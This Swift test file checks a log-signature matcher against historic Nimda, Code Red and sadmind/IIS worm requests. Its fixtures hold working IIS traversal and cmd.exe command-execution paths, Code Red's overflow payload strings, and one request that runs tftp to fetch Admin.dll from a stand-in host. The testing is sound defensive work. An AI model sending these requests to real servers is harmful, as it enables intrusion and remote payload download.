import Testing

@testable import Signatures

/// The requests that were sent to Apache when the program was planned, and what each of them is.
@Suite("The list of worms")
struct WormListTests {
  static let nimda = [
    "/scripts/root.exe?/c+dir",
    "/MSADC/root.exe?/c+dir",
    "/c/winnt/system32/cmd.exe?/c+dir",
    "/d/winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%5c../winnt/system32/cmd.exe?/c+dir",
    "/_vti_bin/..%5c../..%5c../..%5c../winnt/system32/cmd.exe?/c+dir",
    "/_mem_bin/..%5c../..%5c../..%5c../winnt/system32/cmd.exe?/c+dir",
    "/msadc/..%5c../..%5c../..%5c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%252f../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%2f../winnt/system32/cmd.exe?/c+dir",
    "/scripts/Admin.dll",
    "/MSADC/Admin.dll",
    "/c/Admin.dll",
    #"/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+tftp%20-i%20192.0.2.7%20GET%20Admin.dll%20c:\Admin.dll"#,
    "/SCRIPTS/ROOT.EXE?/c+dir",
    "/scripts/%00/root.exe",
  ]

  static let others: [(String, String?)] = [
    ("/scripts/../../winnt/system32/cmd.exe?/c+dir", "sadmind-iis"),
    (
      "/default.ida?NNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a",
      "code-red"
    ),
    (
      "/default.ida?XXXXXXXXXXXXXXXXXXXXXXXX%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a",
      "code-red-ii"
    ),
    ("/default.ida", "index-server"),
    ("/scripts/site.js", nil),
    ("/docs/default.idaho.html", nil),
    ("/index.html", nil),
  ]

  @Test("is of Nimda, and shown whole", arguments: nimda)
  func nimdaRequest(target: String) {
    let match = SignatureTable().match(Request(line: "GET \(target) HTTP/1.0".utf8))
    #expect(match?.signature.name == "nimda")
    #expect(match?.line == "GET \(target) HTTP/1.0")
  }

  @Test("is of others, or of nobody", arguments: others)
  func otherRequest(target: String, name: String?) {
    let match = SignatureTable().match(Request(line: "GET \(target) HTTP/1.0".utf8))
    #expect(match?.signature.name == name)
    #expect(match == nil || match?.line == "GET \(target) HTTP/1.0")
  }

  @Test(
    "is recognized in the form in which a log has it",
    arguments: [([0xC1, 0x1C], "%C1%1C"), ([0xC0, 0x2F], "%C0/"), ([0xC0, 0xAF], "%C0%AF")]
      as [([UInt8], String)])
  func rawBytes(bytes: [UInt8], shown: String) throws {
    let target = Array("/scripts/..".utf8) + bytes + Array("../winnt/system32/cmd.exe?/c+dir".utf8)
    let match = try #require(SignatureTable().match(Request(method: "GET".utf8, target: target)))
    #expect(match.signature.name == "nimda")
    #expect(match.line.contains(shown))
  }

  @Test("is recognized where Code Red writes two blanks, and shown short")
  func codeRed() throws {
    let line = "GET /default.ida?\(String(repeating: "N", count: 224))%u9090%u6858%u00=a  HTTP/1.0"
    let match = try #require(SignatureTable().match(Request(line: line.utf8)))
    #expect(match.signature.name == "code-red")
    let long = "GET /default.ida?\(String(repeating: "X", count: 4000))  HTTP/1.0"
    let shown = try #require(SignatureTable().match(Request(line: long.utf8)))
    #expect(shown.signature.name == "code-red-ii")
    #expect(shown.line.utf8.count == 400)
    #expect(shown.line.hasSuffix("XXX[...] HTTP/1.0"))
  }

  @Test(
    "has the requests of the log in CERT's advisory on sadmind/IIS",
    arguments: [
      #"/scripts/../../winnt/system32/cmd.exe?/c+dir+..\"#,
      #"/scripts/..%c0%af../winnt/system32/cmd.exe?/c+copy+\winnt\system32\cmd.exe+root.exe"#,
      #"/scripts/root.exe?/c+echo+<html>.././index.asp"#,
    ])
  func sadmind(target: String) {
    let match = SignatureTable().match(Request(line: "GET \(target) HTTP/1.0".utf8))
    #expect(match?.signature.name == "sadmind-iis")
  }
}
